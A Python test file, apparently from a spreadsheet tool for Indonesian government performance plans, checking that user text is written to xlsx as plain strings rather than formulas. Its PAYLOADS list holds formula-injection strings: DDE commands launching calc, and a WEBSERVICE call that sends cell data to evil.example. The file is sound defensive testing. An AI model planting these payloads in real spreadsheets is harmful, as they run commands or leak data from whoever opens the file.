"""Text typed by a user is never written as a formula (issue 10, item 1), by any command
that writes a file: the openpyxl writers store it as a string cell (`t="s"`/`inlineStr`, no
`<f>`). Checked in the XML of each output with lxml, for generated strings that start with
= + - @, DDE payloads and formula look-alikes."""

from __future__ import annotations

import tempfile
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from sample import sample_plan
from xlsx_cells import read_cells

from kinerja_xl.cli import main
from kinerja_xl.core.contract import Level
from kinerja_xl.xlsx.fill import write_plan
from kinerja_xl.xlsx.save import save_workbook

SEED = Path(__file__).resolve().parent.parent / "kinerja_xl" / "examples" / \
    "cascading_kebasen_2023.txt"
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/?d=\"&A1)",
    "=HYPERLINK(\"http://evil.example\",\"klik\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "#N/A",
    "#REF!",
    "=",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
)


def _clean(text: str) -> str:
    return " ".join(text.split())


payload = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda p, s: _clean(p + s), st.sampled_from("=+-@"),
              st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")),
                      min_size=1, max_size=25)),
).filter(lambda s: len(s) >= 1 and s == _clean(s))

FIELDS = ("nama", "jabatan", "uraian", "indikator", "satuan", "instansi")


def assert_text(path: Path, texts: dict[str, str], must_show: dict[str, str] = {}) -> None:  # noqa: B006
    """No cell holds one of texts as a formula or an error; each text of must_show
    (field -> sheet prefix) is a string cell on a sheet with that prefix."""
    cells = read_cells(path)
    variants = {v for t in texts.values() for v in (t, t.upper())}
    bodies = {v[1:] for v in variants if v.startswith("=")}
    for c in cells:
        assert not (c.formula is not None and c.formula in bodies), (path.name, c)
        assert not (c.type == "e" and c.text in variants), (path.name, c)
        if c.text in variants and c.formula is None:  # (a formula of ours may show it)
            assert c.is_string, (path.name, c)
    for field, prefix in must_show.items():
        wanted = {texts[field], texts[field].upper()}
        hits = [c for c in cells if c.sheet.startswith(prefix) and c.is_string
                and c.text is not None and any(w in c.text for w in wanted)]
        assert hits, (path.name, field, texts[field], prefix)


def _workbook(folder: Path, texts: dict[str, str]) -> Path:
    plan = sample_plan()
    camat = plan.officials["CAMAT"]
    camat.nama, camat.jabatan = texts["nama"], texts["jabatan"]
    node = plan.levels[Level.KEGIATAN][0]
    node.uraian = texts["uraian"]
    node.indicators[0].name = texts["indikator"]
    node.indicators[0].satuan = texts["satuan"]
    plan.settings.nama_instansi = texts["instansi"]
    path = folder / "kerja.xlsx"
    save_workbook(write_plan(plan), path)
    return path


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow],
          phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(st.fixed_dictionaries({f: payload for f in FIELDS}))
def test_user_text_stays_text_through_every_command(texts: dict[str, str]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = _workbook(Path(tmp), texts)
        # baru-fill (write_plan, what impor and the examples use): the input sheets
        assert_text(path, texts, {"nama": "Pejabat", "uraian": "Kegiatan",
                                  "instansi": "Pengaturan"})
        for command, shows in (("periksa", {}),
                               ("hitung", {"nama": "Pejabat"}),
                               ("pk", {"nama": "PK "}),
                               ("pohon", {"uraian": "Pohon Kinerja"})):
            assert main([command, str(path)]) in (0, 1), command
            assert_text(path, texts, shows)


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow],
          phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(payload, payload)
def test_imported_sasaran_lines_stay_text(first: str, second: str) -> None:
    """`impor`: Sasaran lines of the e-SAKIP text that start with = become text cells."""
    lines = SEED.read_text(encoding="utf-8").split("\n")
    at = [i + 1 for i, line in enumerate(lines) if line.strip() in ("Sasaran Program",
                                                                      "Sasaran Kegiatan")]
    lines[at[0]], lines[at[1]] = first, second
    with tempfile.TemporaryDirectory() as tmp:
        src, out = Path(tmp) / "cascading.txt", Path(tmp) / "impor.xlsx"
        src.write_text("\n".join(lines), encoding="utf-8")
        assert main(["impor", str(src), "-o", str(out)]) in (0, 1)
        assert_text(out, {"a": first, "b": second}, {"a": "Program", "b": "Kegiatan"})


def test_known_payloads_were_formulas_before_put_text(tmp_path: Path) -> None:
    """The check can fail: the same text written the plain openpyxl way is a formula."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = PAYLOADS[0]
    wb.save(tmp_path / "plain.xlsx")
    cells = read_cells(tmp_path / "plain.xlsx")
    assert cells[0].formula == PAYLOADS[0][1:]


def test_control_characters_are_dropped_not_a_crash(tmp_path: Path) -> None:
    """A bell or form feed pasted into a line cannot be stored in XML: it is dropped."""
    lines = SEED.read_text(encoding="utf-8").split("\n")
    at = lines.index("Sasaran Program") + 1
    lines[at] = "=Kalimat\x07 dengan\x0c kontrol"
    src, out = tmp_path / "kontrol.txt", tmp_path / "kontrol.xlsx"
    src.write_text("\n".join(lines), encoding="utf-8")
    assert main(["impor", str(src), "-o", str(out)]) in (0, 1)
    hits = [c for c in read_cells(out) if c.text == "=Kalimat dengan kontrol"]
    assert hits and all(c.is_string for c in hits)


def test_new_and_example_workbooks_have_formulas_only_where_the_product_computes(
        tmp_path: Path) -> None:
    """`baru` writes no formula at all; `contoh` only in computed columns and own sheets,
    never in the input cells of Pejabat or Pengaturan."""
    blank, example = tmp_path / "baru.xlsx", tmp_path / "contoh.xlsm"
    assert main(["baru", str(blank)]) == 0
    assert [c for c in read_cells(blank) if c.formula is not None] == []
    assert main(["contoh", str(example)]) == 0
    cells = read_cells(example)
    assert [c for c in cells if c.formula is not None and c.sheet == "Pejabat"] == []
    assert any(c.formula for c in cells)  # the computed columns are live formulas
